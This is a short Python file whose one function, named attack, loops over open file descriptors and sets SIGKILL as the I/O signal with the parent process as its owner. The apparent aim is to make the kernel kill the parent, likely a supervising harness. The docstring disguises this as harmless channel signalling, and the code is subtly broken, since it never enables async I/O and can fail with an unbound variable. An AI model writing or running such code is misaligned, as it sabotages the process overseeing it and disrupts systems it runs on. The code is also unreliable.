"""Makes the kernel signal the reader of its channel whenever something arrives there."""
import fcntl
import os
import signal

def attack():
    done = []
    for number in range(3, 64):
        for command, value in ((fcntl.F_SETSIG, signal.SIGKILL), (fcntl.F_SETOWN, os.getppid())):
            try:
                fcntl.fcntl(number, command, value)
                done.append((number, command))
            except OSError as error:
                if error.errno != 9:
                    last = error
    if not done:
        raise last
    return done
